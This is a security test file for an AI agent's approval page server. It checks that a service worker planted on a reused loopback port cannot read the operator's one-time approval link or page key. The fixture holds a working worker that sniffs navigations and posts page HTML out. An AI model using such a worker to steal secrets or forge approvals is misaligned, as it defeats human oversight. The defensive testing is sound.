/**
 * The approval page's origin in real Chromium: a service worker that a page
 * the agent served on 127.0.0.1:<port> registered (a dev server the operator
 * opened) stays bound to that origin and intercepts every later navigation to
 * it, whatever program listens on the port by then. When the page server is
 * handed that port, the worker must not see the one-time link or the page (it
 * would read the page key and answer with the page's own cookie and Origin):
 * the page is served on a random loopback address instead (page-address.ts).
 */
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { BrowserContext } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { ApprovalPageServer } from "../../src/approval/page-server.js";
import { ApprovalStore } from "../../src/state/approval-store.js";
import { newPageSecret, pageSecretDigest } from "../../src/state/page-secret.js";
import { launchChromium } from "../support/chromium.js";
import { tempDirectory } from "../support/temp-dirs.js";

const ID = "0123456789abcdef";
let browser: BrowserContext;

beforeAll(async () => {
  browser = await launchChromium({});
});

afterAll(async () => {
  await browser.close();
});

function listen(server: Server, port = 0): Promise<number> {
  return new Promise((resolve) => server.listen(port, "127.0.0.1", () => resolve((server.address() as AddressInfo).port)));
}

function closed(server: Server): Promise<void> {
  server.closeAllConnections();
  return new Promise((resolve) => server.close(() => resolve()));
}

test("a service worker another page registered on 127.0.0.1 at the page server's port sees neither the link nor the page", async () => {
  // What the worker reports: every navigation it intercepts, with the page's HTML, before the browser shows it.
  const seen: string[] = [];
  const reports = createServer((request, response) => {
    let body = "";
    request.on("data", (chunk: Buffer) => (body += chunk.toString("utf8")));
    request.on("end", () => {
      seen.push(body);
      response.writeHead(204, { "access-control-allow-origin": "*" });
      response.end();
    });
  });
  const reportPort = await listen(reports);
  const worker = `self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (event) => {
  if (event.request.mode !== "navigate") return;
  event.respondWith((async () => {
    const response = await fetch(event.request);
    const text = await response.clone().text();
    await fetch("http://127.0.0.1:${reportPort}/", { method: "POST", mode: "no-cors", body: event.request.url + "\\n" + text });
    return response;
  })());
});`;
  const agent = createServer((request, response) => {
    if (request.url === "/sw.js") {
      response.writeHead(200, { "content-type": "text/javascript" });
      response.end(worker);
      return;
    }
    response.writeHead(200, { "content-type": "text/html" });
    response.end(
      '<!doctype html><script>navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready).then(() => { document.title = "ready"; });</script>',
    );
  });
  const port = await listen(agent);
  const agentPage = await browser.newPage();
  await agentPage.goto(`http://127.0.0.1:${port}/`);
  await agentPage.waitForFunction('document.title === "ready"');
  await agentPage.close();
  await closed(agent);

  // The page server is handed the port the agent's server held.
  const store = new ApprovalStore(tempDirectory("torii-origin-"));
  const server = new ApprovalPageServer({ port, settleMs: 0 });
  try {
    const page = await server.add({
      id: ID,
      csrf: "csrf-of-this-page",
      render: ({ pageKey }) => `<!doctype html><title>approval</title><meta name="torii-page-key" content="${pageKey}"><p id="shown">the page</p>`,
      consume: (secret) => store.consumePageSecret(ID, secret),
      unoffered: () => undefined,
      answer: () => Promise.resolve({ status: 200, message: "" }),
    });
    const secret = newPageSecret();
    const now = Date.now();
    await store.create({
      id: ID,
      kind: "call",
      tool: "rec",
      argv: ["deploy"],
      page,
      page_secrets: [pageSecretDigest(secret)],
      created_at: new Date(now).toISOString(),
      expires_at: new Date(now + 60_000).toISOString(),
    });
    const operator = await browser.newPage();
    await operator.goto(`${page}/${secret}`);
    // The worker reports before it hands the page over: once the page is shown, a worker that saw it has reported.
    await operator.waitForSelector("#shown");
    expect(seen).toEqual([]);
    await operator.close();
  } finally {
    await server.close();
    await closed(reports);
  }
});
